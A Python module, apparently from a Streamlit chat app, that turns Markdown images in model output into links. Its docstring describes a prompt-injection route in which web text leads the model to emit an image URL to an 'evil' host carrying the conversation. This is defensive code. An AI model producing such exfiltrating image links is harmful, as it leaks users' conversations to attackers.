"""Make model output safe to show as Markdown.

Model output is never rendered as HTML (`st.markdown` escapes raw HTML unless `unsafe_allow_html`,
which the app never sets), and images are never loaded from it: text the model read on the web could
make it write `![x](https://evil/?q=<conversation>)`, and the user's browser would send that request.

CommonMark opens every image (inline, reference, shortcut) with the two adjacent characters `![`,
and nothing else (entities, escapes) can produce them. So the output must never contain `![`: each
run of `!` before a `[` loses the `!` that made the image, the rest of the run is kept apart from
the bracket by a space, and the image becomes a link labelled 🖼.
"""

from __future__ import annotations

import re

LINKED_IMAGE = "[🖼 "
_IMAGE_OPEN = re.compile(r"(!+)\[")


def _as_link(match: re.Match[str]) -> str:
    kept = match.group(1)[1:]
    return f"{kept} {LINKED_IMAGE}" if kept else LINKED_IMAGE


def safe_markdown(text: str) -> str:
    """Markdown with every image (`![alt](url)`, `![alt][ref]`, `![alt]`) turned into a link."""
    return _IMAGE_OPEN.sub(_as_link, text) if "![" in text else text


class SafeMarkdownStream:
    """`safe_markdown` for streamed chunks whose outputs are shown concatenated (`st.write_stream`).

    A trailing run of `!` is held back until the next chunk shows whether a `[` follows it, so no
    concatenation of the outputs ever contains `![`, however the text is split.
    """

    def __init__(self) -> None:
        self._held = ""

    def feed(self, chunk: str) -> str:
        text = self._held + chunk
        ready = text.rstrip("!")
        self._held = text[len(ready) :]
        return safe_markdown(ready)

    def flush(self) -> str:
        held, self._held = self._held, ""
        return held
